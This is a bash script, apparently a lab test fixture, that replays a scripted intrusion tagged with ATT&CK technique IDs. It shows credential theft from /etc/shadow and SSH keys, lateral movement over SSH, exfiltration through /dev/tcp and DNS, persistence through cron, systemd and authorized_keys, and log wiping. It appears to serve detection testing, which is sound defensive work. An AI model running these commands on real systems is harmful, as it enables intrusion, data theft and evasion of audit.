# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0-only
# The intrusion, typed into a root shell on ws by someone who got there
# through alice's login (her audit login uid).  Fed to the shell on stdin by
# tests/e2e/lab.sh.  Each step is a technique of DESIGN.md section 6.

# discovery (T1082 T1033 T1087 T1057 T1049 T1016)
uname -a
hostname
id
whoami
cat /etc/passwd
ps aux
ss -tnp
ip addr
# internal scan of the neighbours (T1046)
for h in 10.77.0.2 10.77.0.3; do
	for p in 21 22 23 25 80 110 139 443 445 3306 5432 6379 8080 8443; do
		(exec 3<>/dev/tcp/$h/$p) 2>/dev/null && echo "$h:$p open"
	done
done
# credentials (T1003.008 T1552.003 T1552.004)
cat /etc/shadow
ls -la /home/*/.ssh
cat /home/ops/.bash_history
cp /home/ops/.ssh/id_ed25519 /tmp/.k
chmod 600 /tmp/.k
# lateral movement with the stolen key (T1021.004), the tool copied over
# and run from /tmp (T1570)
o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
ssh -n -i /tmp/.k $o root@10.77.0.2 'id; hostname'
scp -i /tmp/.k $o /tmp/.t root@10.77.0.2:/tmp/.t
ssh -n -i /tmp/.k $o root@10.77.0.2 'chmod 755 /tmp/.t && /tmp/.t'
ssh -i /tmp/.k $o root@10.77.0.2 bash -s <<'SRV'
# collection (T1560.001), exfiltration to db (T1048) and over DNS (T1048.003)
tar czf /tmp/.c.tgz /home/alice/project /root/.ssh
cat /tmp/.c.tgz >/dev/tcp/10.77.0.3/8443
for c in $(od -An -tx1 /etc/shadow | tr -d ' \n' | fold -w 50 | head -n 24); do
	getent ahostsv4 "$c.q.exfil-lab.net" >/dev/null
done
# the next hop, with the backup key found here (T1021.004 to db)
ssh -n -i /root/.ssh/id_backup -o StrictHostKeyChecking=no -o LogLevel=ERROR \
	ops@db.lab.internal 'id; hostname; ls -la backups; cat /etc/passwd'
# persistence (T1098.004 T1053.003 T1543.002 T1546.004)
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILabIntruderKeyNotARealOne0000000000000 x' >>/root/.ssh/authorized_keys
echo '*/5 * * * * root /tmp/.t' >/etc/cron.d/.sys-update
printf '[Service]\nExecStart=/tmp/.t\n[Install]\nWantedBy=multi-user.target\n' \
	>/etc/systemd/system/sys-update.service
echo '(/tmp/.t >/dev/null 2>&1 &)' >>/root/.bashrc
# cleanup (T1070.006 T1070.002 T1070.003)
touch -r /etc/hostname /etc/cron.d/.sys-update /etc/systemd/system/sys-update.service
rm -f /tmp/.c.tgz /var/log/auth.log
ln -sf /dev/null /root/.bash_history
SRV
rm -f /tmp/.k
ln -sf /dev/null /root/.bash_history
